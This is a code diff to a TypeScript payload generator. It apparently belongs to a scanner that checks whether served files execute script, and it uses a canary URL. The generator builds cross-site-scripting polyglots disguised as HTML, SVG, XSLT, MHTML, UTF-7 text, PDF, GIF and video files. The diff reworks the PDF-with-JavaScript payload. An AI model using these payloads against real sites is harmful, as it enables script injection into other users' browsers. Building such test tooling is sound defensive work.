@@ -44,6 +44,7 @@ const archive = (markup: string) =>
 /** `(module (start …))` would need an import to be noticed; this one only has to compile. */
 const WASM = Buffer.from('0061736d01000000', 'hex');
 
+/** Those that do most harm are first. */
 export function payloads(canary: string, victims: string[]): Payload[] {
   const js = probe(canary, victims);
   const html = `<!doctype html><title>x</title>${marks(canary)}<script>${js}</script><body onload="${js}">`;
@@ -55,6 +56,7 @@ export function payloads(canary: string, victims: string[]): Payload[] {
   const inXslt = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><!DOCTYPE x [<!ATTLIST xsl:stylesheet id ID #IMPLIED>]><x>${sheet.replace('version', 'id="s" version')}</x>`;
   const mhtml = `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b; type="text/html"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: http://x/\r\n\r\n${html}\r\n--b--\r\n`;
   const parts = `--b\r\nContent-Type: text/html\r\n\r\n${html}\r\n--b\r\nContent-Type: text/html\r\n\r\n${html}\r\n--b--\r\n`;
+  const paper = pdf(`${canary}/shown?PDF`);
   const of = (name: string, type: string, file: string, bytes: string | Buffer): Payload => ({
     ...{ name, type, file, bytes: Buffer.from(bytes) },
   });
@@ -66,6 +68,7 @@ export function payloads(canary: string, victims: string[]): Payload[] {
     of('HTML', 'text/html', 'page.html', html),
     of('SVG', 'image/svg+xml', 'picture.svg', svg),
     of('script', 'text/javascript', 'main.js', js),
+    of('PDF with JavaScript', 'application/pdf', 'paper.pdf', paper),
     of('HTML in UTF-16', 'text/html; charset=utf-16le', 'page.htm', utf16(html)),
     of('HTML in UTF-7', 'text/html; charset=utf-7', 'page.htm', utf7(html)),
     packed('gzip', gzipSync(html)),
@@ -92,12 +95,11 @@ export function payloads(canary: string, victims: string[]): Payload[] {
     of('text that looks like HTML', 'text/plain', 'notes.txt', html),
     of('subtitles that are HTML', 'text/vtt', 'film.vtt', `WEBVTT\n\n${html}`),
     of('film that is HTML', 'video/mp4', 'film.mp4', html),
-    of('PDF with JavaScript', 'application/pdf', 'paper.pdf', pdf(js)),
     of(
       'PDF that is HTML',
       'application/pdf',
       'paper.pdf',
-      Buffer.concat([Buffer.from(html), pdf(js)]),
+      Buffer.concat([Buffer.from(html), paper]),
     ),
     of('GIF that is a script', 'image/gif', 'pixel.gif', gif(js)),
     of('GIF that is HTML', 'image/gif', 'pixel.gif.html', gif(html)),
